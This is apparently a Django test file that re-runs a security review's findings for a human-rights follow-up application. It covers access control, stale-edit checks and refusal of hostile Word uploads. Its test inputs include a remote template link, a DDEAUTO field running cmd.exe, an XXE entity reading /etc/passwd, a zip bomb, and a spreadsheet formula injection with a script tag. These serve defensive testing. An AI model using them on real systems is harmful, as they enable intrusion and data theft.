"""What a third attack found in the follow-up, played again."""

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from openupr.coalitions.models import ChosenFile
from openupr.coalitions.pairing import COOKIE, make_pairing_code, pair_device
from openupr.coalitions.tests.examples.cast import Cast
from openupr.files.tests import files_with_names as made
from openupr.followup.evidence import add_evidence, add_organisation_evidence
from openupr.followup.models import Evidence, EvidenceFile, FollowUp, ListedRecommendation, Matrix, MatrixRow
from openupr.followup.public_follow_up import choose_public
from openupr.followup.tests.examples import evidence, follow_up
from openupr.undocs.tests.test_thematic_lists import ROW, listed
from openupr.web.clock import now_in
from openupr.web.tests.reading import as_read

from .conftest import SignIn
from .test_evidence_files import at
from .test_matrices import TITLE, TODAY, bring_in

_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_a_paired_device_reaches_no_evidence_for_its_group_alone_by_a_guessed_number(
    cast: Cast, browser_of: SignIn
) -> None:
    source = evidence(cast)
    Evidence.objects.update(seen_by=Evidence.SeenBy.OWN, source="A witness in the village")
    _made, code = make_pairing_code(by=cast.chan, group=cast.land, person=cast.chan, now=now_in())
    telephone = Client()
    telephone.cookies[COOKIE] = pair_device(code=code, now=now_in())[1]
    parts = {**cast.at_land, "number": source.follow_up_id, "evidence": source.pk}
    assert telephone.get(reverse("followup:evidence-change", kwargs=parts)).status_code == 404
    remove = reverse("followup:evidence-remove", kwargs=parts)
    assert telephone.post(remove, {"sure": "yes"}).status_code == 404
    assert Evidence.objects.filter(pk=source.pk).exists()
    assert browser_of(cast.chan).get(reverse("followup:evidence-change", kwargs=parts)).status_code == 200


def test_nobody_verifies_what_was_changed_after_they_read_it(cast: Cast, browser_of: SignIn) -> None:
    source, dara = evidence(cast), browser_of(cast.dara)
    parts = {**cast.at_coalition, "number": source.listed_id}
    page = dara.get(reverse("followup:recommendation", kwargs=parts)).content.decode()
    assert 'name="version" value="0"' in page
    chan = browser_of(cast.chan)
    chan.post(at("add", cast, source), {"document": SimpleUploadedFile("a.pdf", made.full_pdf())})
    chan.post(at("look", cast, source), {"do": "take"})
    check = reverse("followup:evidence-check", kwargs={**parts, "evidence": source.pk})
    for sent in ({"do": "verify", "version": 0}, {"do": "verify"}, {"do": "reject", "reason": "No.", "version": 0}):
        told = dara.post(check, sent, follow=True)
        assert "Somebody else saved this meanwhile" in as_read(told.content.decode())
    source.refresh_from_db()
    assert source.state == Evidence.State.NEW


def test_the_file_that_is_taken_is_the_one_that_was_looked_at(cast: Cast, browser_of: SignIn) -> None:
    source, chan = evidence(cast), browser_of(cast.chan)
    chan.post(at("add", cast, source), {"document": SimpleUploadedFile("shared.pdf", made.full_pdf())})
    looked_at = ChosenFile.objects.get().pk
    assert f'name="chosen" value="{looked_at}"' in chan.get(at("look", cast, source)).content.decode()
    # In another tab they choose a file that is for their group alone.
    given = {"kind": "first-hand", "day": None, "source": "s", "reliability": "likely"}
    other = add_evidence(by=cast.chan, follow_up=follow_up(cast), what="w", seen_by=Evidence.SeenBy.OWN, **given)
    chan.post(at("add", cast, other), {"document": SimpleUploadedFile("secret.pdf", made.full_pdf())})
    told = chan.post(at("look", cast, source), {"do": "take", "chosen": looked_at}, follow=True)
    assert "You chose another file meanwhile." in as_read(told.content.decode())
    assert not EvidenceFile.objects.exists()


def with_parts(data: bytes, **parts: str) -> bytes:
    """The Word file with more in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in archive.namelist():
            copy.writestr(name, archive.read(name))
        for name, text in parts.items():
            copy.writestr(name, text)
    return out.getvalue()


def template_at(target: str) -> dict[str, str]:
    """A template that Word fetches when it opens the file."""
    link = f'<Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{link}</Relationships>'}


_FIELD = '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>{}</w:instrText></w:ftr>'


@pytest.mark.parametrize(
    "parts",
    [
        template_at("http://elsewhere.example/t.dotm"),
        template_at(r"file:///\\elsewhere.example\share\t.dotm"),
        {"word/vbaProject.bin": "macro"},
        {"word/embeddings/oleObject1.bin": "object"},
        {"word/footer9.xml": _FIELD.format(' INCLUDEPICTURE "http://elsewhere.example/p.png" \\d ')},
        {"word/footer9.xml": _FIELD.format("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")},
    ],
)
def test_a_thematic_list_that_would_fetch_or_run_something_is_not_kept(
    cast: Cast, browser_of: SignIn, parts: dict[str, str]
) -> None:
    told = bring_in(cast, browser_of, with_parts(listed(ROW, title=TITLE), **parts))
    assert told.status_code == 422
    assert "fetches something from elsewhere" in as_read(told.content.decode())
    assert not Matrix.objects.exists()


@pytest.mark.parametrize("what", ["bomb", "entities", "a cell of a megabyte"])
def test_a_thematic_list_that_would_overwhelm_is_refused_and_nothing_is_kept(
    cast: Cast, browser_of: SignIn, what: str
) -> None:
    list_of_ohchr = listed((f"122.9 {'word ' * 200_000}(Peru);", *ROW[1:]) if "cell" in what else ROW, title=TITLE)
    parts = {
        "bomb": {"word/extra.xml": "<a>" + " " * 12_000_000 + "</a>"},
        "entities": {"word/extra.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    }
    told = bring_in(cast, browser_of, with_parts(list_of_ohchr, **parts.get(what, {})))
    assert told.status_code == 422
    assert not Matrix.objects.exists()
    assert not ListedRecommendation.objects.exists()


def test_what_an_import_brought_runs_in_no_file_that_leaves(cast: Cast, browser_of: SignIn) -> None:
    # A record that was imported may hold anything that somebody put into its CSV.
    evil = '=HYPERLINK("http://elsewhere.example","open")<script>alert(1)</script>'
    one = ListedRecommendation.objects.create(coalition=cast.coalition, text=evil, session=18, from_iso3="PER")
    FollowUp.objects.create(group=cast.land, listed=one, text=evil)
    client = browser_of(cast.sophea)

    def taken(name: str, **parts: object) -> bytes:
        return b"".join(client.get(reverse(f"followup:{name}", kwargs={**cast.at_coalition, **parts})))

    assert b"'=HYPERLINK" in taken("list-file", kind="csv")
    group = {"group": cast.land.pk}
    assert b"'=HYPERLINK" in taken("follow-ups-csv", **group)
    own = {"session": 18, "kind": "xlsx"}
    for book in (taken("list-file", kind="xlsx"), taken("own-matrix", **own), taken("part-file", kind="xlsx", **group)):
        sheet = openpyxl.load_workbook(io.BytesIO(book)).worksheets[0]
        [cell] = [cell for row in sheet.iter_rows() for cell in row if "=HYPERLINK" in str(cell.value)]
        assert (cell.data_type, cell.hyperlink) == ("s", None)
    for file in (taken("own-matrix", session=18, kind="docx"), taken("part-file", kind="docx", **group)):
        with zipfile.ZipFile(io.BytesIO(file)) as package:
            assert b"<script>" not in package.read("word/document.xml")
            assert not any(b"elsewhere.example" in package.read(name) for name in package.namelist() if "_rels" in name)


def test_a_thematic_list_may_name_a_template_of_its_makers_disk(cast: Cast, browser_of: SignIn) -> None:
    own = template_at(r"file:///C:\Users\OHCHR\Normal.dotm")
    assert bring_in(cast, browser_of, with_parts(listed(ROW, title=TITLE), **own)).status_code == 200


def test_a_thematic_list_with_a_number_without_end_is_taken_on_postgresql_too(cast: Cast, browser_of: SignIn) -> None:
    row = (f"1{'.123' * 20} Plant (Peru);\nSource of Position: A", "Supported", "- Trees", "")
    assert bring_in(cast, browser_of, listed(row, title=TITLE)).status_code == 200
    assert len(MatrixRow.objects.get().number) <= 24


def test_the_public_page_shows_no_personal_data_after_its_day_and_nothing_once_off(cast: Cast) -> None:
    source = evidence(cast)
    given = {"by": cast.sophea, "coalition": cast.coalition, "title": "T", "introduction": "", "today": TODAY}
    given |= {"shown": ["evidence"], "chosen": [source.listed_id]}
    address = reverse("followup:public", args=[choose_public(on=True, **given).key])
    Evidence.objects.update(seen_by=Evidence.SeenBy.PUBLIC, state=Evidence.State.VERIFIED, source="A named widow")
    shown = Client().get(address)
    assert "A named widow" in shown.content.decode()
    assert "no-store" in shown.headers["Cache-Control"]
    # The worker has not come by yet, or waits because the clock is in doubt.
    Evidence.objects.update(personal_until=date(2020, 1, 1))
    assert "A named widow" not in Client().get(address).content.decode()
    choose_public(on=False, **given)
    assert Client().get(address).status_code == 404


def test_what_an_organisation_added_by_mistake_can_be_taken_away(cast: Cast, browser_of: SignIn) -> None:
    listed_one = ListedRecommendation.objects.get(pk=follow_up(cast).listed_id)
    given = {"kind": "first-hand", "day": None, "source": "Her name", "reliability": "likely", "today": TODAY}
    for person in (cast.nary, cast.sophea):
        source = add_organisation_evidence(
            by=cast.nary, listed=listed_one, organisation=cast.forest, what="An account", **given
        )
        parts = {**cast.at_coalition, "number": listed_one.pk}
        address = reverse("followup:organisation-evidence-remove", kwargs={**parts, "evidence": source.pk})
        for other in (cast.chan, cast.dara, cast.vuthy):
            assert browser_of(other).post(address, {"sure": "yes"}).status_code in {403, 404}
        page = browser_of(person).get(reverse("followup:recommendation", kwargs=parts)).content.decode()
        assert address in page
        browser_of(person).post(address, {"sure": "yes"})
        assert not Evidence.objects.filter(pk=source.pk).exists()
